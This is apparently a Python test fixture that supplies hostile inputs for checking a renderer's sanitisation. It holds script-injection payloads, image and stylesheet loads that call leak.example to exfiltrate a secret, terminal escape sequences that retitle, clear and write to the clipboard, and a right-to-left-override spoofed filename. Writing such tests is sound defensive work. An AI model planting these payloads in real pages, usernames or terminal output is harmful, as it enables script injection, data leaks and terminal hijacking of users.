"""Text that attacks the page or the terminal that shows it."""

from __future__ import annotations

import json

from support.paths import SUPPORT

#: Markdown that attacks the page, one attack in each. The tests of the browser's renderer have the
#: same list.
ATTACKS: list[str] = json.loads((SUPPORT / "hostile_markdown.json").read_text(encoding="utf-8"))

#: An answer with raw HTML, scripts and remote resources.
HOSTILE = """\
**bold** <script>window.attacked = 'script'</script>
<img src=x onerror="window.attacked = 'onerror'"> <svg onload="window.attacked = 'svg'"></svg>

<iframe srcdoc="<script>parent.attacked = 'iframe'</script>"></iframe>

<script>window.attacked = 'block'</script>

![seen](https://leak.example/image.png?secret) <img src="https://leak.example/raw.png">
![again][image] [link](javascript:window.attacked='link') [data](data:text/html,x) [out](/logout)

<style>@import url(https://leak.example/style.css);</style>

| a | b |
|---|---|
| cell | <img src=x onerror="window.attacked = 'table'"> |

```html
<img src=x> &amp;
```

$x_1 < \\href{javascript:window.attacked='math'}{y}$ $E = mc^2$ the end

[image]: https://leak.example/reference.png
"""

#: An answer that sets the title of a terminal, clears it, asks it to type, and changes its colors.
CONTROLS = (
    "an\x1b]0;attacked\x07swer\x1b[2J \x1b]52;c;YXR0YWNrZWQ=\x1b\\without\x1b[c \x9b31m"
    "colors\r\x08\x7f\x1b"
)

#: Names and messages of other people that could become markup, or reorder the text around them.
NAMES = (
    "<img src=x onerror=\"window.attacked = 'name'\">",
    "</td></table><script>window.attacked = 'cell'</script>",
    '"><svg onload="window.attacked = \'attribute\'">',
    "a&lt;b&amp;c",
    "$\\href{javascript:window.attacked='math'}{x}$",
    "\u05e9\u05dc\u05d5\u05dd/\u0645\u0631\u062d\u0628\u0627:Q4",
    "\u202egnp.exe",
    "\U0001f999/\U0001f469\u200d\U0001f4bb:Q4_K_M",
    "long" * 300,
)
